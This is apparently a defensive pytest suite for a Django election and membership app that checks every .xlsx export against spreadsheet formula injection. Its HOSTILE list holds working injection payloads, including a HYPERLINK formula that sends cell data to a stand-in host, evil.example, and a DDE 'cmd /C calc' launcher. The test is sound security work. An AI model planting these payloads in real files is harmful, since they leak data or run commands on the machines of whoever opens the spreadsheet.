"""Spreadsheet formula injection: every .xlsx the system writes holds user text as text.

The demo county, election and congress are loaded, then every organization and member is renamed to
something a spreadsheet program would run as a formula (``=HYPERLINK(…)``, ``+``, ``-``, ``@``, a tab,
full-width ``＝``), as an import or a careless edit could leave them. Every export route is then
downloaded by an account that may read it; no cell of any sheet may be a formula, every hostile text
must be there as text with the quote prefix, and at least one hostile name must be in each file (so
that the check is not vacuous).
"""

from __future__ import annotations

import inspect
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.db import transaction
from django.db.models import CharField, F, Value
from django.db.models.functions import Cast, Concat, Left
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from xuanju.accounts.models import User
from xuanju.campaigns.models import Campaign
from xuanju.congress.models import Congress
from xuanju.demo import load_all
from xuanju.demo.congress import ORGANIZER
from xuanju.elections.models import Election
from xuanju.organizations.models import Member, Organization
from xuanju.spreadsheet import FORMULA_STARTS, workbook_bytes

pytestmark = pytest.mark.django_db

TODAY = date(2026, 3, 31)  # as tests/counting/test_demo_election.py
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝1+1",
]
# Every route that answers with an .xlsx file: (route name, what its argument is).
EXPORTS = {
    "roster_export": "branch",
    "roster_template": "branch",
    "compliance_export": None,
    "election_slate_export": "election",
    "reserve_depth_export": "county",
    "tree_template": "county",
    "committee_history_export": "branch",
    "congress_allocation_export": "congress",
    "congress_report_export": "congress",
    "campaign_progress_xlsx": "campaign",
    "campaign_structure_xlsx": "campaign",
}
# Routes that answer a POST with an .xlsx file (initial passwords of accounts made in bulk):
# (route name, what its argument is, the form posted).
POST_EXPORTS = {
    "account_bulk_secretaries": (None, lambda w: {"top": w["county"].pk, "username_prefix": "sj"}),
    "account_bulk_members": (
        "branch",
        lambda w: {"members": list(w["branch"].members.values_list("pk", flat=True)[:12]), "role": "member"},
    ),
}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        demo = load_all(TODAY, congress_scale=0.2)
        demo_election, demo_congress = demo.election, demo.congress
        # Cut to each column's length (PostgreSQL enforces it); the hostile start stays.
        org_name = Organization._meta.get_field("name").max_length
        member_name = Member._meta.get_field("name").max_length
        ethnicity = Member._meta.get_field("ethnicity").max_length
        for index, prefix in enumerate(HOSTILE):
            Organization.objects.filter(pk__in=_every(Organization, index)).update(
                name=Left(Concat(Value(prefix), F("name")), org_name)
            )
            Member.objects.filter(pk__in=_every(Member, index)).update(
                name=Left(Concat(Value(prefix), Cast("pk", CharField())), member_name),
                ethnicity=Value(prefix[:ethnicity]),
            )
        branch = Organization.objects.get(name__endswith=demo_election.organization)
        objects = {
            "branch": branch,
            "county": Organization.objects.get(depth=1),
            "election": Election.objects.filter(organization=branch).latest("pk"),
            "congress": Congress.objects.get(pk=demo_congress.congress_id),
            "campaign": Campaign.objects.get(pk=demo.campaign.campaign_id),
        }
        yield objects
        transaction.set_rollback(True)


def _every(model, index: int) -> list[int]:
    """The ids of every len(HOSTILE)-th row from ``index``, so that every prefix is used."""
    ids = list(model.objects.order_by("pk").values_list("pk", flat=True))
    return ids[index :: len(HOSTILE)]


def _formula_cells(data: bytes) -> tuple[list[str], list[str], list[str]]:
    """(formula cells, hostile text cells without the quote prefix, hostile text cells)."""
    workbook = load_workbook(io.BytesIO(data))
    formulas, unprefixed, hostile = [], [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    formulas.append(f"{where}: {cell.value!r}")
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    hostile.append(where)
                    if not cell.quotePrefix:
                        unprefixed.append(where)
    # The raw XML must not hold a formula element either (openpyxl would show it as "f").
    with_zip = zipfile.ZipFile(io.BytesIO(data))
    for name in with_zip.namelist():
        if name.startswith("xl/worksheets/") and b"<f>" in with_zip.read(name):
            formulas.append(f"{name}: <f> element")
    return formulas, unprefixed, hostile


def _client(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_writes_user_text_as_a_formula(world, name):
    argument = EXPORTS[name]
    url = reverse(name, args=[world[argument].pk]) if argument else reverse(name)
    username = ORGANIZER if argument == "congress" else "county_org"
    response = _client(username).get(url)
    assert response.status_code == 200, (name, response.status_code)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    formulas, unprefixed, hostile = _formula_cells(b"".join(response.streaming_content))
    assert formulas == [], f"{name}: formulas in the export: {formulas[:5]}"
    assert unprefixed == [], f"{name}: formula-like text without the quote prefix: {unprefixed[:5]}"
    assert hostile, f"{name}: no hostile name reached the export, the check proves nothing"


@pytest.mark.parametrize("name", sorted(POST_EXPORTS))
def test_no_password_sheet_writes_user_text_as_a_formula(world, name):
    argument, form = POST_EXPORTS[name]
    url = reverse(name, args=[world[argument].pk]) if argument else reverse(name)
    response = _client("county_org").post(url, form(world))
    assert response.status_code == 200, (name, response.status_code)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    formulas, unprefixed, hostile = _formula_cells(b"".join(response.streaming_content))
    assert formulas == [], f"{name}: formulas in the export: {formulas[:5]}"
    assert unprefixed == [], f"{name}: formula-like text without the quote prefix: {unprefixed[:5]}"
    assert hostile, f"{name}: no hostile name reached the export, the check proves nothing"


def _patterns(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern.url_patterns)
        else:
            yield pattern


def test_every_export_route_is_walked():
    """Every view that answers with an .xlsx file is in EXPORTS (found in the view's source)."""
    exporting = set()
    for pattern in _patterns(get_resolver().url_patterns):
        view = inspect.unwrap(pattern.callback)
        try:
            source = inspect.getsource(view)
        except (OSError, TypeError):
            continue
        if "XLSX" in source or "_xlsx(" in source:
            exporting.add(pattern.name)
    assert exporting == set(EXPORTS) | set(POST_EXPORTS), "a new .xlsx export: add its route to EXPORTS"


def test_every_workbook_is_written_through_the_one_helper():
    root = Path(__file__).resolve().parent.parent / "xuanju"
    direct = sorted(
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "spreadsheet.py" and "workbook.save(" in p.read_text(encoding="utf-8").lower()
    )
    # Large exports (the county's pool depth) stream their rows as XML text through
    # xuanju.xlsx_stream, which quotes formula-like text as as_text does (tests/test_xlsx_stream.py);
    # the pool-depth route is walked with hostile data above like every export.
    direct.remove("xlsx_stream.py")
    assert direct == [], f"write .xlsx through xuanju.spreadsheet.workbook_bytes: {direct}"


@pytest.mark.parametrize("text", [*HOSTILE, "-", "\r=1", "＋1", "＠A1", "－1"])
def test_the_helper_keeps_formula_like_text_as_text(text):
    workbook = Workbook()
    workbook.active["A1"] = text
    workbook.active["A2"] = 42
    workbook.active["A3"] = "王芳"
    loaded = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert (loaded["A1"].data_type, loaded["A1"].value, loaded["A1"].quotePrefix) == ("s", text, True)
    assert (loaded["A2"].value, loaded["A3"].value, loaded["A3"].quotePrefix) == (42, "王芳", False)
